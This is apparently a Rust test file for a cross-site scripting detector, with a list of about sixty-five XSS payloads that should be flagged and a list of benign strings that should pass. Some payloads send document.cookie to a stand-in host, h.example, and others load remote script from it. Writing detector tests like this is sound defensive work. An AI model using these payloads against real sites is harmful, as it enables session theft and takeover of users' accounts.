use super::DETECTOR;
use crate::Place;
use crate::detect::scan::check::{best, found, hits, japanese_passes, passed, survives};

const ATTACKS: &[&str] = &[
    // Tags.
    "<script>fetch('//h.example/'+document.cookie)</script>",
    "hello <ScRiPt/x>top.y=1</sCrIpT>",
    "<script src=//h.example/a.js></script>",
    "<svg/onload=confirm`7`>",
    "<img/src=q/onerror=\"x=1\">",
    "<details open ontoggle=print()>",
    "<video><source onerror=alert(3)>",
    "<input autofocus\tonfocus\n=\nx()>",
    "<b onmouseenter='a()'>hi</b>",
    "<custom-tag id=x tabindex=1 onfocusin=y()>",
    "<iframe srcdoc='<p>x</p>'>",
    "<object data=\"https://h.example/x.swf\">",
    "<base href=//h.example/>",
    "<meta http-equiv=refresh content='0;url=//h.example'>",
    "<form action=https://h.example/login><input name=p>",
    "<link rel=stylesheet href=//h.example/x.css>",
    "<math><mtext></mtext><mglyph>",
    "<a href=\"jav\tascript:x()\">y</a>",
    "<a href='vbscript:msgbox(1)'>y</a>",
    "<iframe src=data:text/html;base64,PHA+>",
    "<p style=\"width:expression(x())\">",
    "<div style='-moz-binding:url(//h.example/x.xml#y)'>",
    "<style>@import '//h.example/x.css'</style>",
    "</title><p>x",
    "</textarea>x",
    "<div ng-app ng-click=\"x()\">",
    "<a v-on:click=\"y\">",
    "<\0script>x()</script>",
    // Attributes added.
    "x\" onpointerover=\"y()",
    "x' autofocus onfocus='y()' z='",
    "q\" style=\"position:fixed;top:0\" w=\"",
    "onerror=alert;throw 1",
    "1 onmouseover=prompt(2) ",
    "\"><b>x",
    "x'/><i>",
    "--><h1>x</h1>",
    // URLs.
    "javascript:alert(document.domain)",
    "  javascript://%0aalert(1)",
    "java\nscript\n:x()",
    "data:text/html,<h1>x</h1>",
    // Script.
    "';alert(1)//",
    "\"-confirm(2)-\"",
    "\\';prompt(3);//",
    "'+alert(4)+'",
    "x'};fetch('//h.example/?'+document.cookie);{'",
    "${alert(5)}",
    "alert`6`",
    "window['al'+'ert'](7)",
    "self[\"eval\"](name)",
    "[7].map(alert)",
    "[].constructor.constructor('x')()",
    "(alert)(8)",
    "top[/al/.source+/ert/.source](9)",
    "document.location='//h.example/'+document.cookie",
    ";location=name;//",
    "[][(![]+[])[+[]]]",
    "setTimeout('x',9)",
    "new Function('return 1')()",
    "eval(atob('YQ=='))",
    "import('//h.example/m.js')",
    "Reflect.apply.call`${alert}`",
    "document.querySelector('#a').innerHTML=1",
    "with(document)body.appendChild(createElement('p'))",
    "+ADw-script+AD4-x()+ADw-/script+AD4-",
];

const ORDINARY: &[&str] = &[
    r#"{"href":"javascript:void(0);","role":"menuitem"}"#,
    "javascript:;",
    "a < b and b > c",
    "I <3 you",
    "taro <taro@example.com> wrote",
    "<alice> hello <bob> hi there",
    "How does the <script> tag work?",
    "what is <b>bold</b> and <br>?",
    "<p>Our office is <strong>closed</strong> on <a href=\"/news/12\">Monday</a>.</p>",
    "<img src=\"/images/logo.png\" alt=\"logo\">",
    "How do I call alert() in JavaScript?",
    "the prompt (see below) is shown; confirm it",
    "JavaScript: The Good Parts",
    "What does document.cookie return, and why is window.location slow?",
    "on page=3 once=4",
    "online=true",
    "D'or \"on sale\" = cheap",
    "select a seat from the list; it's free -- really",
    "O'Brien & Sons (since 1985)",
    "{\"title\":\"a\",\"location\":\"Tokyo\"}",
    "open(ed) and fetch(ed)",
    "import {tax} rules from \u{201c}abroad\u{201d}",
    "C++ templates: vector<int> and map<string, int>",
    "if (x<10 && y>5) { total += x; }",
    "f(x) = g(x) + h(x)",
    "price = 10; size = 20",
    "location=Tokyo",
    "see https://www.example.com/a?b=1&c=<d>",
    "x --> y --> z",
    "data:image/png;base64,iVBORw0KGgo=",
    "evaluation(2024) / alerting",
    "＜重要＞ お知らせ（１２月）",
    "call `eval()` or `alert(1)` in the console",
    "[![](https://www.example.com/a.svg)](https://www.example.com/)",
];

#[test]
fn finds_markup_and_script_in_every_context() {
    found(&DETECTOR, ATTACKS);
}

#[test]
fn passes_prose_formatting_and_questions_about_code() {
    passed(&DETECTOR, ORDINARY);
    japanese_passes(&DETECTOR);
}

#[test]
fn finds_brackets_with_the_eighth_bit_set() {
    assert!(best(&DETECTOR, b"\xbcscript\xbex()\xbc/script\xbe") >= 80);
    assert!(best(&DETECTOR, "¼p¾x¼/p¾".as_bytes()) < 50);
}

#[test]
fn takes_a_crawled_script_link_in_a_path_for_nothing() {
    for path in [
        "/news/javascript:void(0)",
        "/javascript:;",
        "/a/document.cookie",
    ] {
        let hits = hits(&DETECTOR, Place::Path, b"", path.as_bytes());
        assert!(hits.iter().all(|h| h.score.0 < 50), "{path} {hits:?}");
    }
    let hits = hits(&DETECTOR, Place::Path, b"", b"/a/<script>x()</script>");
    assert!(hits.iter().any(|h| h.score.0 >= 80));
}

#[test]
fn survives_spoiled_bytes() {
    survives(&DETECTOR, ATTACKS);
    survives(&DETECTOR, ORDINARY);
}

#[test]
fn keeps_tables_sorted() {
    use super::words as w;
    crate::detect::scan::check::sorted(&[
        w::TAGS_ACTING,
        w::TAGS_RAW,
        w::ATTRIBUTES_FRAMEWORK,
        w::ATTRIBUTES_ADDED,
        w::FUNCTIONS,
        w::FUNCTIONS_PLAIN,
        w::GLOBALS,
        w::GLOBALS_NOUNS,
        w::MEMBERS,
        w::MEMBERS_NOUNS,
        w::CALLERS,
        w::EVENTS,
    ]);
}
